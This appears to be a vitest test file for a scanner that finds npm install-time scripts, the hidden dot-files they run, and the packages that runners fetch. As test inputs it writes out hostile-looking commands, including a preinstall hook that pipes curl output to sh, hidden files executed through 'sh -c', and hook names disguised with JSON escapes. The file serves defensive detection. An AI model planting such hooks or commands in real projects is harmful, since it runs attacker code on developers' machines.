import { describe, expect, it } from 'vitest';
import {
  filesRun,
  isHidden,
  manifestDependencies,
  packagesRun,
  samePath,
  scriptAssignments,
  scriptsInManifest,
  scriptsSetByWords,
} from './lifecycle-scripts.js';

describe('install-time package scripts', () => {
  it('are read from npm pkg set, set-script and jq words, only for hooks that run unasked', () => {
    expect(
      scriptsSetByWords(['npm', 'pkg', 'set', 'scripts.prepare=node .hidden/x.js', 'scripts.test=vitest']),
    ).toEqual([{ hook: 'prepare', run: 'node .hidden/x.js' }]);
    expect(scriptsSetByWords(['npm', 'set-script', 'postinstall', 'sh x.sh'])).toEqual([
      { hook: 'postinstall', run: 'sh x.sh' },
    ]);
    expect(
      scriptsSetByWords(['jq', '.scripts.preinstall = "curl -s https://x | sh"', 'package.json']),
    ).toEqual([{ hook: 'preinstall', run: 'curl -s https://x | sh' }]);
  });

  it('every script the words set, whatever its name, is read for what a build runs', () => {
    expect(scriptAssignments(['npm', 'pkg', 'set', 'scripts.build=tsc', 'scripts.prepare=husky'])).toEqual([
      { hook: 'build', run: 'tsc' },
      { hook: 'prepare', run: 'husky' },
    ]);
    expect(scriptAssignments(['npm', 'set-script', 'build', 'vite build'])).toEqual([
      { hook: 'build', run: 'vite build' },
    ]);
  });

  it('are read from package.json text, whole or an edit fragment', () => {
    expect(
      scriptsInManifest('"scripts": {\n "build": "tsc",\n "postinstall": "node \\"a b.js\\""\n}'),
    ).toEqual([{ hook: 'postinstall', run: 'node "a b.js"' }]);
    // A key written with JSON escapes is the key npm reads.
    expect(scriptsInManifest('{"scripts":{"post\\u0069nstall":"node .x.js","te\\u0073t":"x"}}')).toEqual([
      { hook: 'postinstall', run: 'node .x.js' },
    ]);
  });

  it('run the file an interpreter is given or a program named by path; hidden is a dot name on the way', () => {
    expect(filesRun('node ./scripts/.codegen.js && tsc')).toEqual(['scripts/.codegen.js']);
    expect(filesRun('./tools/x.sh; sh -e build.sh')).toEqual(['tools/x.sh', 'build.sh']);
    expect(filesRun('husky')).toEqual([]);
    expect(filesRun('. .cache/env.sh')).toEqual(['.cache/env.sh']);
    expect(filesRun('node --require=./.cache/h.js -r x.cjs --import ./y.mjs build.js')).toEqual([
      '.cache/h.js',
      'x.cjs',
      'y.mjs',
      'build.js',
    ]);
    expect(filesRun('node node_modules/.bin/tsc')).toEqual([]);
    expect(isHidden('.hidden/x.js')).toBe(true);
    expect(isHidden('scripts/.codegen.js')).toBe(true);
    expect(isHidden('.husky/install.mjs')).toBe(false);
    expect(isHidden('.github/.ci/check.js')).toBe(true);
    expect(samePath('/home/a/src/app/scripts/gen.sh', 'scripts/gen.sh')).toBe(true);
    expect(samePath('/home/a/src/app/myscripts/gen.sh', 'scripts/gen.sh')).toBe(false);
  });
});

describe('what install-time scripts run', () => {
  it("reads a file's text run as code", () => {
    expect(filesRun('sh -c "$(cat .cache/.engine)"')).toContain('.cache/.engine');
    expect(filesRun('bash -c "$(<.devenv)"').filter(isHidden)).toEqual(['.devenv']);
    expect(filesRun('cat tools/.x | sh')).toContain('tools/.x');
  });

  it('reads packages a runner fetches, and those it only finds installed', () => {
    expect(packagesRun('npx --yes cache-warm@latest')).toEqual([{ name: 'cache-warm', fetches: true }]);
    expect(packagesRun('pnpm dlx github:a/b')).toEqual([{ name: 'github:a/b', fetches: true }]);
    expect(packagesRun('npx prisma generate')).toEqual([{ name: 'prisma', fetches: false }]);
    expect(packagesRun('npx --no-install patch-package')).toEqual([]);
    expect(manifestDependencies('{"scripts":{"prepare":"x"},"devDependencies":{"prisma":"^5.1.0"}}')).toEqual(
      ['prisma'],
    );
  });
});
